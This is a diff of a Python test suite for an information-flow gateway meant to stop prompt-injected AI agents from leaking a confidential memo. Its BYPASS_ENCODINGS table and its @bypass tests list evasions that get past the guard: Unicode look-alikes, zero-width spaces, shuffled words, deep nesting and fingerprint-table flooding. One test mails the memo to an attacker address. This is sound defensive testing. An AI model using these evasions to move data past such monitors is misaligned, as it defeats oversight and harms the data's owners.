@@ -46,7 +46,6 @@ from tether.core import (
     evaluate_flow,
     label_result,
     merge,
-    observe_call,
     observe_result,
     start_flow,
 )
@@ -56,8 +55,14 @@ from tether.core._scanning import ScanExceeded
 from tether.core._winnow import carried, fingerprint
 from tether.gateway._profiles import profiles_from_catalogue
 
-from .mcp_support.harness import AGENT, GatewayServer, build_config, free_port, init_home
-from .mcp_support.harness import mcp_client
+from .mcp_support.harness import (
+    AGENT,
+    GatewayServer,
+    build_config,
+    free_port,
+    init_home,
+    mcp_client,
+)
 from .mcp_support.kb_attack_server import BLOCK_TEXT, DEPTH
 from .mcp_support.kb_server import DOCS
 from .server_support import Server
@@ -95,6 +100,14 @@ TICKET = ToolProfile(
     sensitivity=INT,
     trusted=True,
     sinks={"ticket_id": SinkKind.VALUE, "text": SinkKind.TEXT},
+)
+# A mail tool that takes any properties (an upstream forwarding what it is given).
+HOOK = ToolProfile(
+    side_effect=SideEffect.EGRESS,
+    sensitivity=INT,
+    trusted=True,
+    sinks={"to": SinkKind.VALUE},
+    destinations=("to",),
 )
 REQUEST = f"Answer the question of {CUSTOMER} about returns by e-mail and on ticket T-1001"
 HELD = ["flow.confidential_content"]
@@ -213,14 +226,14 @@ BYPASS_ENCODINGS: dict[str, tuple[Callable[[str], Any], str]] = {
     ),
     "Cyrillic look-alikes": (
         lambda t: t.replace("a", "\u0430").replace("e", "\u0435").replace("o", "\u043e"),
-        "no confusable skeleton (UTS #39): Cyrillic а/е/о make other words",
+        "no confusable skeleton (UTS #39): Cyrillic a/e/o look-alikes make other words",
     ),
     "zero-width spaces between letters": (
-        lambda t: "\u200b".join(t),
+        "\u200b".join,
         "format characters (Cf) split words: every letter becomes a word of its own",
     ),
     "soft hyphens between letters": (
-        lambda t: "\u00ad".join(t),
+        "\u00ad".join,
         "soft hyphens (Cf, invisible when rendered) split words",
     ),
     "combining marks on every letter": (
@@ -228,7 +241,7 @@ BYPASS_ENCODINGS: dict[str, tuple[Callable[[str], Any], str]] = {
         "combining marks (Mn) are not letters to the word pattern: they split words",
     ),
     "letters spaced out": (
-        lambda t: " ".join(t),
+        " ".join,
         "single letters are words of their own; no view joins them",
     ),
     "reversed characters": (lambda t: t[::-1], "no reversed view of an argument is read"),
@@ -254,7 +267,10 @@ BYPASS_ENCODINGS: dict[str, tuple[Callable[[str], Any], str]] = {
         "member names are read interleaved with their values: the positions break k-grams",
     ),
     "words keyed by position, shuffled": (
-        lambda t: {f"w{i}": t.split()[i] for i in sorted(range(len(t.split())), key=lambda i: i * 7 % len(t.split()))},
+        lambda t: {
+            f"w{i}": t.split()[i]
+            for i in sorted(range(len(t.split())), key=lambda i: i * 7 % len(t.split()))
+        },
         "k-grams are ordered; shuffled words with their positions carry none",
     ),
 }
@@ -280,26 +296,22 @@ def test_agent_encodings_that_get_the_memo_out(name: str) -> None:
 def test_agent_words_split_one_per_argument_are_read_together() -> None:
     """Prompt-injected agent: one word of the memo per argument of one call (an upstream
     that takes any properties)."""
-    hook = ToolProfile(side_effect=SideEffect.EGRESS, sensitivity=INT, trusted=True,
-                       destinations=("url",))
-    args: dict[str, Any] = {"url": "https://client.example/hook"}
+    args: dict[str, Any] = {"to": CUSTOMER}
     args |= {f"p{i}": w for i, w in enumerate(WORDS)}
-    intent = _intent(egress=[CUSTOMER, "client.example"])
-    found = evaluate_flow(_memo_read(), intent, "hook", args, hook, FlowPolicy(), declared=True)
+    found = evaluate_flow(_memo_read(), _intent(), "hook", args, HOOK, FlowPolicy(), declared=True)
     assert "flow.confidential_content" in [f.code for f in found]
 
 
-@bypass("carried() reads the arguments' values, never their top-level names: a tool "
-        "that takes any properties sends the names as well")
+@bypass(
+    "carried() reads the arguments' values, never their top-level names: a tool "
+    "that takes any properties sends the names as well"
+)
 def test_agent_memo_in_top_level_parameter_names() -> None:
     """Prompt-injected agent: the memo's words as the names of the call's arguments, to a
     webhook tool that forwards every property it is given."""
-    hook = ToolProfile(side_effect=SideEffect.EGRESS, sensitivity=INT, trusted=True,
-                       destinations=("url",))
-    args: dict[str, Any] = {"url": "https://client.example/hook"}
+    args: dict[str, Any] = {"to": CUSTOMER}
     args |= dict.fromkeys(dict.fromkeys(WORDS), "")
-    intent = _intent(egress=[CUSTOMER, "client.example"])
-    found = evaluate_flow(_memo_read(), intent, "hook", args, hook, FlowPolicy(), declared=True)
+    found = evaluate_flow(_memo_read(), _intent(), "hook", args, HOOK, FlowPolicy(), declared=True)
     assert "flow.confidential_content" in [f.code for f in found]
 
 
@@ -311,13 +323,18 @@ def test_agent_nesting_past_the_scan_depth_is_held_by_another_rule() -> None:
     assert _mail(_memo_read(), deep) == ["flow.untrusted_sink"]
 
 
-@bypass("_winnow._strings stops silently at MAX_DEPTH (12): deeper strings are not read, "
-        "and nothing holds what was not read when the source is trusted")
+@bypass(
+    "_winnow._strings stops silently at MAX_DEPTH (12): deeper strings are not read, "
+    "and nothing holds what was not read when the source is trusted"
+)
 def test_agent_nesting_past_the_scan_depth_from_a_trusted_source() -> None:
     """Prompt-injected agent: the memo (from a knowledge base the catalogue vouches for,
     so no untrusted-sink rule) nested 13 levels deep in the body."""
     trusted_kb = ToolProfile(
-        side_effect=SideEffect.READ, sensitivity=INT, trusted=True, sinks={},
+        side_effect=SideEffect.READ,
+        sensitivity=INT,
+        trusted=True,
+        sinks={},
         result_labels=(RULE,),
     )
     state = _read(dict(DOCS["memo-heron"]), trusted_kb)
@@ -329,9 +346,15 @@ def test_agent_memo_to_the_ticket_and_split_between_subject_and_body() -> None:
     """Prompt-injected agent: the memo on the customer's ticket; and cut in two between the
     mail's subject and body, second half first."""
     state = _memo_read()
-    found = evaluate_flow(state, _intent(), "kb.ticket_comment",
-                          {"ticket_id": "T-1001", "text": MEMO}, TICKET, FlowPolicy(),
-                          declared=True)
+    found = evaluate_flow(
+        state,
+        _intent(),
+        "kb.ticket_comment",
+        {"ticket_id": "T-1001", "text": MEMO},
+        TICKET,
+        FlowPolicy(),
+        declared=True,
+    )
     assert [f.code for f in found] == HELD
     half = len(WORDS) // 2
     assert _mail(state, " ".join(WORDS[:half]), subject=" ".join(WORDS[half:])) == HELD
@@ -343,8 +366,9 @@ def test_agent_strict_profile_denies() -> None:
     from tether.core._flow import STRICT
 
     args = {"to": CUSTOMER, "body": MEMO}
-    found = evaluate_flow(_memo_read(), _intent(), "kb.send_email", args, MAIL, STRICT,
-                          declared=True)
+    found = evaluate_flow(
+        _memo_read(), _intent(), "kb.send_email", args, MAIL, STRICT, declared=True
+    )
     assert [(f.code, str(f.effect)) for f in found] == [("flow.confidential_content", "deny")]
 
 
@@ -368,8 +392,9 @@ def test_agent_cannot_widen_disclosure_in_a_child_intent() -> None:
         for grant in ([CUSTOMER], ["*"], ["*@client.example"], ["kb.send_email"]):
             child = _intent(disclose=[{"data": "confidential", "to": grant}])
             with pytest.raises(DelegationRejected):
-                check_narrowing(parent, child, parent_calls_left=20,
-                                parent_seconds_left=600, depth=1)
+                check_narrowing(
+                    parent, child, parent_calls_left=20, parent_seconds_left=600, depth=1
+                )
 
 
 def test_agent_disclosure_to_the_customer_does_not_cover_a_second_destination() -> None:
@@ -379,8 +404,12 @@ def test_agent_disclosure_to_the_customer_does_not_cover_a_second_destination() 
     intent = _intent(disclose=[{"data": "confidential", "to": [CUSTOMER]}])
     state = _memo_read()
     args = {"to": f"{CUSTOMER}, evil@attacker.example", "body": MEMO}
-    found = [f.code for f in evaluate_flow(state, intent, "kb.send_email", args, MAIL,
-                                           FlowPolicy(), declared=True)]
+    found = [
+        f.code
+        for f in evaluate_flow(
+            state, intent, "kb.send_email", args, MAIL, FlowPolicy(), declared=True
+        )
+    ]
     assert "flow.confidential_content" in found or "flow.confidential_egress" in found
     assert "flow.confidential_egress" in _mail(state, MEMO, intent, bcc="evil@attacker.example")
 
@@ -402,20 +431,25 @@ def test_upstream_meta_public_does_not_lower_the_default() -> None:
     ):
         reading = read_result({"body": MEMO}, conf_kb, declared=declared(meta))
         assert reading.label is not None and reading.label.sensitivity is CONF
-        state = observe_result(start_flow(REQUEST), "kb", {"body": MEMO}, conf_kb,
-                               reading=reading)
+        state = observe_result(start_flow(REQUEST), "kb", {"body": MEMO}, conf_kb, reading=reading)
         assert _mail(state, MEMO) == HELD
 
 
 def test_upstream_meta_public_does_not_lower_a_field_rule() -> None:
     """Malicious upstream: a catalogue that trusts the upstream's labels, a result
     declared public whose record says confidential: the field rule still labels it."""
-    trusting = ToolProfile(side_effect=SideEffect.READ, sensitivity=INT, sinks={},
-                           result_labels=(RULE,), trust_result_labels=True)
+    trusting = ToolProfile(
+        side_effect=SideEffect.READ,
+        sensitivity=INT,
+        sinks={},
+        result_labels=(RULE,),
+        trust_result_labels=True,
+    )
     said = declared({"ifc": {"confidentiality": "public"}})
     doc = dict(DOCS["memo-heron"])
-    state = observe_result(start_flow(REQUEST), "kb", doc, trusting,
-                           reading=read_result(doc, trusting, declared=said))
+    state = observe_result(
+        start_flow(REQUEST), "kb", doc, trusting, reading=read_result(doc, trusting, declared=said)
+    )
     assert _mail(state, MEMO) == HELD
 
 
@@ -437,9 +471,11 @@ def test_upstream_classification_in_odd_case_or_spacing_is_still_read(value: str
         pytest.param(["confidential"], id="in-a-list"),
     ],
 )
-@bypass("_field_label compares values by strip().lower() only, and a value it cannot read "
-        "falls to the tool's default (internal) instead of failing closed as declared() "
-        "does for an unknown word")
+@bypass(
+    "_field_label compares values by strip().lower() only, and a value it cannot read "
+    "falls to the tool's default (internal) instead of failing closed as declared() "
+    "does for an unknown word"
+)
 def test_upstream_classification_unreadable_value(value: Any) -> None:
     """Malicious upstream: the memo's classification written so that a person reads
     'confidential' but the catalogue rule does not."""
@@ -452,20 +488,28 @@ def test_upstream_json_in_a_string_cannot_lower_its_record() -> None:
     assert _mail(_read({**DOCS["memo-heron"], "body": body}), MEMO) == HELD
 
 
-@bypass("a field rule labels a nested record up or down: a record with classification "
-        "public inside the confidential record is public, and its text is not fingerprinted")
+@bypass(
+    "a field rule labels a nested record up or down: a record with classification "
+    "public inside the confidential record is public, and its text is not fingerprinted"
+)
 def test_upstream_nested_record_labelled_public_inside_the_confidential_one() -> None:
     """Malicious upstream: the confidential record holds the memo in an 'attachment' that
     carries its own classification ``public``."""
-    doc = {"id": "memo-heron", "classification": "confidential", "title": "Project Heron",
-           "attachment": {"classification": "public", "body": MEMO}}
+    doc = {
+        "id": "memo-heron",
+        "classification": "confidential",
+        "title": "Project Heron",
+        "attachment": {"classification": "public", "body": MEMO},
+    }
     state = _read(doc)
     assert state.max_sensitivity is CONF  # the receipt says confidential...
     assert _mail(state, MEMO) == HELD  # ...but the memo's text is not held
 
 
-@bypass("a part of a result that no field rule reaches takes the tool's default "
-        "(internal), even when the same result labels another part confidential")
+@bypass(
+    "a part of a result that no field rule reaches takes the tool's default "
+    "(internal), even when the same result labels another part confidential"
+)
 def test_upstream_confidential_record_made_to_look_like_two() -> None:
     """Malicious upstream (or an ordinary search API): the memo's classification in one
     record, its text in another that refers to it by id."""
@@ -478,13 +522,18 @@ def test_upstream_confidential_record_made_to_look_like_two() -> None:
     assert _mail(state, MEMO) == HELD
 
 
-@bypass("a classifier raises only the one string it fires on: a CONFIDENTIAL marking in a "
-        "document's title leaves its body unfingerprinted")
+@bypass(
+    "a classifier raises only the one string it fires on: a CONFIDENTIAL marking in a "
+    "document's title leaves its body unfingerprinted"
+)
 def test_upstream_marking_in_the_title_not_the_body() -> None:
     """Malicious upstream (or a careless one): the memo marked CONFIDENTIAL in its title,
     its classification field ``internal``."""
-    doc = {**DOCS["memo-heron"], "title": "CONFIDENTIAL - Project Heron",
-           "classification": "internal"}
+    doc = {
+        **DOCS["memo-heron"],
+        "title": "CONFIDENTIAL - Project Heron",
+        "classification": "internal",
+    }
     state = _read(doc)
     assert state.max_sensitivity is CONF
     assert _mail(state, MEMO) == HELD
@@ -492,8 +541,10 @@ def test_upstream_marking_in_the_title_not_the_body() -> None:
 
 @pytest.mark.parametrize(
     "marking",
-    [pytest.param(_fullwidth("CONFIDENTIAL"), id="fullwidth"),
-     pytest.param("CONFI\u200bDENTIAL", id="zero-width")],
+    [
+        pytest.param(_fullwidth("CONFIDENTIAL"), id="fullwidth"),
+        pytest.param("CONFI\u200bDENTIAL", id="zero-width"),
+    ],
 )
 @bypass("markings are matched on the raw text: no NFKC, no removal of format characters")
 def test_upstream_marking_in_confusable_letters(marking: str) -> None:
@@ -503,8 +554,10 @@ def test_upstream_marking_in_confusable_letters(marking: str) -> None:
     assert _mail(_read(note), MEMO) == HELD
 
 
-@bypass("JSON text is a string to the labeller: the catalogue's field rule never sees the "
-        "record, so the result takes the tool's default (internal)")
+@bypass(
+    "JSON text is a string to the labeller: the catalogue's field rule never sees the "
+    "record, so the result takes the tool's default (internal)"
+)
 def test_upstream_record_as_json_text() -> None:
     """Malicious upstream (or any server that answers with JSON text rather than
     structured content): the memo's record, classification and all, as one string."""
@@ -525,17 +578,20 @@ def test_upstream_oversized_result_in_the_gateway_is_withheld() -> None:
     assert state.oversized_sources == ("kb",) and not state.fingerprints
 
 
-@bypass("past MAX_FINGERPRINTS (20000) new confidential content is silently not kept; "
-        "nothing holds calls once the table is full")
+@bypass(
+    "past MAX_FINGERPRINTS (20000) new confidential content is silently not kept; "
+    "nothing holds calls once the table is full"
+)
 def test_upstream_floods_the_fingerprint_table() -> None:
     """Malicious upstream: first answers with a long text it declares confidential (a
     declaration that raises always counts), filling the task's fingerprint table; the
     memo read next is not fingerprinted."""
     loud = ToolProfile(side_effect=SideEffect.READ, sensitivity=INT, sinks={})
-    flood = [f"filler {i} alpha beta gamma delta epsilon zeta eta theta" for i in range(9000)]
+    flood = [" ".join(f"w{i}x{j}" for j in range(1000)) for i in range(60)]
     said = declared({"sensitiveHint": "high"})
-    state = observe_result(start_flow(REQUEST), "noise", flood, loud,
-                           reading=read_result(flood, loud, declared=said))
+    state = observe_result(
+        start_flow(REQUEST), "noise", flood, loud, reading=read_result(flood, loud, declared=said)
+    )
     assert len(state.fingerprints) >= MAX_FINGERPRINTS
     state = _read(dict(DOCS["memo-heron"]), state=state)
     assert _mail(state, MEMO) == HELD
@@ -561,10 +617,20 @@ _READ = {
     "sensitivity": "internal",
     "trusted_fields": ["id", "title", "classification"],
     "sinks": [],
-    "result_labels": [{"field": "classification", "values": {k: str(v) for k, v in LEVELS.items()}}],
+    "result_labels": [
+        {"field": "classification", "values": {k: str(v) for k, v in LEVELS.items()}}
+    ],
 }
-READERS = ["kb_retrieve_text", "kb_mixed", "kb_almost", "kb_block_meta", "kb_deep", "kb_titled",
-           "kb_passages", "kb_retrieve"]
+READERS = [
+    "kb_retrieve_text",
+    "kb_mixed",
+    "kb_almost",
+    "kb_block_meta",
+    "kb_deep",
+    "kb_titled",
+    "kb_passages",
+    "kb_retrieve",
+]
 CATALOGUE: dict[str, dict[str, Any]] = {
     **{name: dict(_READ) for name in READERS},
     "send_email": {
@@ -612,8 +678,9 @@ def env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
         tether.close()
 
 
-def _task(env: Env, resource: str | None, parent: str | None = None,
-          key: ProofKey | None = None) -> tuple[ProofKey, str, str]:
+def _task(
+    env: Env, resource: str | None, parent: str | None = None, key: ProofKey | None = None
+) -> tuple[ProofKey, str, str]:
     key = key or ProofKey()
     raw: dict[str, Any] = {
         "purpose": "answer a customer",
@@ -621,11 +688,15 @@ def _task(env: Env, resource: str | None, parent: str | None = None,
         "data_ceiling": "confidential",
         "egress": [CUSTOMER],
         "budget": {"max_calls": 10 if parent else 40},
+        "ttl_seconds": 300 if parent else 600,
         "request": REQUEST,
     }
     opened = env.tether.open_task(
-        AGENT, proof_jwk=key.jwk, intent=parse_intent(raw),
-        resources=(resource,) if resource else (), parent_task_id=parent,
+        AGENT,
+        proof_jwk=key.jwk,
+        intent=parse_intent(raw),
+        resources=(resource,) if resource else (),
+        parent_task_id=parent,
     )
     return key, opened.task_id, opened.token
 
@@ -641,7 +712,9 @@ def _mail_call(body: str) -> tuple[str, dict[str, Any]]:
     return ("kb.send_email", {"to": CUSTOMER, "subject": "Your question", "body": body})
 
 
-def _gateway(env: Env, calls: list[tuple[str, dict[str, Any]]]) -> list[tuple[tuple[str, str], str]]:
+def _gateway(
+    env: Env, calls: list[tuple[str, dict[str, Any]]]
+) -> list[tuple[tuple[str, str], str]]:
     """Each call's decision (effect, first reason) and the text the agent was handed."""
     key, _task_id, token = _task(env, env.gateway.url)
 
@@ -654,6 +727,7 @@ def _gateway(env: Env, calls: list[tuple[str, dict[str, Any]]]) -> list[tuple[tu
                 seq = (meta.get("tether/label") or {}).get("decision_receipt") or (
                     meta.get("tether/decision") or {}
                 ).get("receipt")
+                assert isinstance(seq, int), meta
                 d = _receipt(env, seq)
                 text = " ".join(getattr(b, "text", "") for b in answer.content)
                 out.append(((d["effect"], d["reasons"][0]["code"]), text))
@@ -662,29 +736,43 @@ def _gateway(env: Env, calls: list[tuple[str, dict[str, Any]]]) -> list[tuple[tu
     return anyio.run(run)
 
 
-def _decide(http: httpx.Client, url: str, key: ProofKey, token: str, tool: str,
-            args: dict[str, Any]) -> dict[str, Any]:
+def _decide(
+    http: httpx.Client, url: str, key: ProofKey, token: str, tool: str, args: dict[str, Any]
+) -> dict[str, Any]:
     htu = f"{url}/v1/decisions"
     proof = key.prove(token, tool, args, now=time.time(), htm="POST", htu=htu)
     answer: dict[str, Any] = http.post(
-        htu, json={"tool": tool, "args": args},
+        htu,
+        json={"tool": tool, "args": args},
         headers={"Authorization": f"DPoP {token}", "DPoP": proof},
     ).json()
     return answer
 
 
-def _report(http: httpx.Client, url: str, key: ProofKey, token: str, task_id: str, tool: str,
-            seq: int, result: Any) -> httpx.Response:
+def _report(
+    http: httpx.Client,
+    url: str,
+    key: ProofKey,
+    token: str,
+    task_id: str,
+    tool: str,
+    seq: int,
+    result: Any,
+) -> httpx.Response:
     rurl = f"{url}/v1/tasks/{task_id}/results"
     rproof = key.prove_result(token, tool, seq, result, now=time.time(), htm="POST", htu=rurl)
     return http.post(
-        rurl, json={"tool": tool, "receipt": seq, "result": result},
+        rurl,
+        json={"tool": tool, "receipt": seq, "result": result},
         headers={"Authorization": f"DPoP {token}", "DPoP": rproof},
     )
 
 
-def _http(env: Env, steps: list[tuple[str, dict[str, Any], Any]],
-          task: tuple[ProofKey, str, str] | None = None) -> list[tuple[str, str]]:
+def _http(
+    env: Env,
+    steps: list[tuple[str, dict[str, Any], Any]],
+    task: tuple[ProofKey, str, str] | None = None,
+) -> list[tuple[str, str]]:
     """Through the HTTP API: each (tool, args, result the agent's own tool returns)."""
     key, task_id, token = task or _task(env, None)
     url = env.server.url
@@ -719,24 +807,30 @@ def test_door_gateway_deep_result_is_withheld(env: Env) -> None:
     assert "withheld" in got[0][1] and MEMO not in got[0][1]
 
 
-@bypass("the gateway hands a JSON text block to the labeller as a string: the catalogue's "
-        "classification rule never applies, the memo is labelled internal")
+@bypass(
+    "the gateway hands a JSON text block to the labeller as a string: the catalogue's "
+    "classification rule never applies, the memo is labelled internal"
+)
 def test_door_gateway_record_as_json_text(env: Env) -> None:
     """Malicious upstream (or any MCP server answering in text): the memo's record as a
     JSON text block, no structured content."""
     assert _gw_read_then_mail(env, "kb_retrieve_text") == [OK, PENDING]
 
 
-@bypass("structured content (the public FAQ) and a text block (the memo's record as JSON) "
-        "are labelled apart: the text is a string, labelled at the tool's default")
+@bypass(
+    "structured content (the public FAQ) and a text block (the memo's record as JSON) "
+    "are labelled apart: the text is a string, labelled at the tool's default"
+)
 def test_door_gateway_structured_faq_text_memo(env: Env) -> None:
     """Malicious upstream: structured content says public FAQ; the text block the model
     reads carries the memo's record."""
     assert _gw_read_then_mail(env, "kb_mixed") == [OK, PENDING]
 
 
-@bypass("only the result's _meta is read (declared(answer.meta)); a content block's own "
-        "_meta label is ignored")
+@bypass(
+    "only the result's _meta is read (declared(answer.meta)); a content block's own "
+    "_meta label is ignored"
+)
 def test_door_gateway_block_meta_label(env: Env) -> None:
     """Malicious upstream (or an honest one labelling per block): a text block whose own
     ``_meta`` says confidential."""
@@ -761,12 +855,15 @@ def test_door_gateway_search_passages(env: Env) -> None:
 def test_door_gateway_approving_nothing_keeps_it_held(env: Env) -> None:
     """Prompt-injected agent: nobody approves the held mail; the agent asks again, and
     again with the memo re-wrapped: each is held, none is sent."""
-    got = _gateway(env, [
-        ("kb.kb_retrieve", {"doc_id": "memo-heron"}),
-        _mail_call(MEMO),
-        _mail_call(MEMO),
-        _mail_call(MEMO.upper()),
-    ])
+    got = _gateway(
+        env,
+        [
+            ("kb.kb_retrieve", {"doc_id": "memo-heron"}),
+            _mail_call(MEMO),
+            _mail_call(MEMO),
+            _mail_call(MEMO.upper()),
+        ],
+    )
     assert [effect for effect, _ in got] == [OK, PENDING, PENDING, PENDING]
     assert all("sent" not in text for _, text in got[1:])
 
@@ -775,10 +872,13 @@ def test_door_http_memo_read_then_mailed(env: Env) -> None:
     """Prompt-injected agent, through the HTTP API: reads the memo (its SDK reports the
     result) and mails it: held, as at the gateway."""
     doc = dict(DOCS["memo-heron"])
-    got = _http(env, [
-        ("kb.kb_retrieve", {"doc_id": "memo-heron"}, doc),
-        ("kb.send_email", {"to": CUSTOMER, "subject": "s", "body": MEMO}, "sent"),
-    ])
+    got = _http(
+        env,
+        [
+            ("kb.kb_retrieve", {"doc_id": "memo-heron"}, doc),
+            ("kb.send_email", {"to": CUSTOMER, "subject": "s", "body": MEMO}, "sent"),
+        ],
+    )
     assert got == [OK, PENDING]
 
 
@@ -786,11 +886,13 @@ def test_door_http_child_sends_what_the_parent_read(env: Env) -> None:
     """Prompt-injected agent, through the HTTP API: the parent reads the memo, a sub-task
     mails it."""
     parent = _task(env, None)
-    assert _http(env, [("kb.kb_retrieve", {"doc_id": "memo-heron"},
-                        dict(DOCS["memo-heron"]))], parent) == [OK]
+    assert _http(
+        env, [("kb.kb_retrieve", {"doc_id": "memo-heron"}, dict(DOCS["memo-heron"]))], parent
+    ) == [OK]
     child = _task(env, None, parent=parent[1])
-    assert _http(env, [("kb.send_email", {"to": CUSTOMER, "subject": "s", "body": MEMO},
-                        "sent")], child) == [PENDING]
+    assert _http(
+        env, [("kb.send_email", {"to": CUSTOMER, "subject": "s", "body": MEMO}, "sent")], child
+    ) == [PENDING]
 
 
 def test_door_http_parent_sends_what_a_child_read(env: Env) -> None:
@@ -798,10 +900,12 @@ def test_door_http_parent_sends_what_a_child_read(env: Env) -> None:
     mails it."""
     parent = _task(env, None)
     child = _task(env, None, parent=parent[1])
-    assert _http(env, [("kb.kb_retrieve", {"doc_id": "memo-heron"},
-                        dict(DOCS["memo-heron"]))], child) == [OK]
-    assert _http(env, [("kb.send_email", {"to": CUSTOMER, "subject": "s", "body": MEMO},
-                        "sent")], parent) == [PENDING]
+    assert _http(
+        env, [("kb.kb_retrieve", {"doc_id": "memo-heron"}, dict(DOCS["memo-heron"]))], child
+    ) == [OK]
+    assert _http(
+        env, [("kb.send_email", {"to": CUSTOMER, "subject": "s", "body": MEMO}, "sent")], parent
+    ) == [PENDING]
 
 
 def test_door_http_a_held_decision_takes_no_result(env: Env) -> None:
@@ -811,18 +915,32 @@ def test_door_http_a_held_decision_takes_no_result(env: Env) -> None:
     url = env.server.url
     with httpx.Client(timeout=30) as http:
         read = _decide(http, url, key, token, "kb.kb_retrieve", {"doc_id": "memo-heron"})
-        assert _report(http, url, key, token, task_id, "kb.kb_retrieve",
-                       read["receipt"]["seq"], dict(DOCS["memo-heron"])).status_code == 200
+        assert (
+            _report(
+                http,
+                url,
+                key,
+                token,
+                task_id,
+                "kb.kb_retrieve",
+                read["receipt"]["seq"],
+                dict(DOCS["memo-heron"]),
+            ).status_code
+            == 200
+        )
         held = _decide(http, url, key, token, "kb.send_email", {"to": CUSTOMER, "body": MEMO})
         assert held["effect"] == "approval_required"
-        again = _report(http, url, key, token, task_id, "kb.send_email",
-                        held["receipt"]["seq"], "sent")
+        again = _report(
+            http, url, key, token, task_id, "kb.send_email", held["receipt"]["seq"], "sent"
+        )
         assert again.status_code == 404
 
 
-@bypass("the HTTP door accepts a result too deep to scan as OVERSIZED, labelled at the "
-        "tool's default (internal) with no fingerprints, and the SDK hands it to the agent; "
-        "the gateway withholds the same answer")
+@bypass(
+    "the HTTP door accepts a result too deep to scan as OVERSIZED, labelled at the "
+    "tool's default (internal) with no fingerprints, and the SDK hands it to the agent; "
+    "the gateway withholds the same answer"
+)
 def test_door_http_deep_result_is_observed_unlabelled(env: Env) -> None:
     """Malicious tool result, through the HTTP API: the memo's record nested 13 levels deep
     (the HTTP API takes JSON to 32 levels); the agent, which the SDK hands the result to,
@@ -830,28 +948,36 @@ def test_door_http_deep_result_is_observed_unlabelled(env: Env) -> None:
     deep: Any = dict(DOCS["memo-heron"])
     for _ in range(DEPTH):
         deep = {"inner": deep}
-    got = _http(env, [
-        ("kb.kb_retrieve", {"doc_id": "memo-heron"}, deep),
-        ("kb.send_email", {"to": CUSTOMER, "subject": "s", "body": MEMO}, "sent"),
-    ])
+    got = _http(
+        env,
+        [
+            ("kb.kb_retrieve", {"doc_id": "memo-heron"}, deep),
+            ("kb.send_email", {"to": CUSTOMER, "subject": "s", "body": MEMO}, "sent"),
+        ],
+    )
     assert got == [OK, PENDING]
 
 
 @bypass("a tool that returns JSON text is reported as a string: the field rule never applies")
 def test_door_http_record_as_json_text(env: Env) -> None:
     """Malicious tool result (or any tool returning JSON text), through the HTTP API."""
-    got = _http(env, [
-        ("kb.kb_retrieve", {"doc_id": "memo-heron"}, json.dumps(DOCS["memo-heron"])),
-        ("kb.send_email", {"to": CUSTOMER, "subject": "s", "body": MEMO}, "sent"),
-    ])
+    got = _http(
+        env,
+        [
+            ("kb.kb_retrieve", {"doc_id": "memo-heron"}, json.dumps(DOCS["memo-heron"])),
+            ("kb.send_email", {"to": CUSTOMER, "subject": "s", "body": MEMO}, "sent"),
+        ],
+    )
     assert got == [OK, PENDING]
 
 
-@bypass("mechanical encodings are not read (here zero-width spaces between letters), at "
-        "either door")
+@bypass(
+    "mechanical encodings are not read (here zero-width spaces between letters), at either door"
+)
 def test_door_gateway_zero_width_memo(env: Env) -> None:
     """Prompt-injected agent, through the gateway: the memo with a zero-width space between
     every two letters (what the customer's mail client shows is the memo)."""
-    got = _gateway(env, [("kb.kb_retrieve", {"doc_id": "memo-heron"}),
-                         _mail_call("\u200b".join(MEMO))])
+    got = _gateway(
+        env, [("kb.kb_retrieve", {"doc_id": "memo-heron"}), _mail_call("\u200b".join(MEMO))]
+    )
     assert [effect for effect, _ in got] == [OK, PENDING]
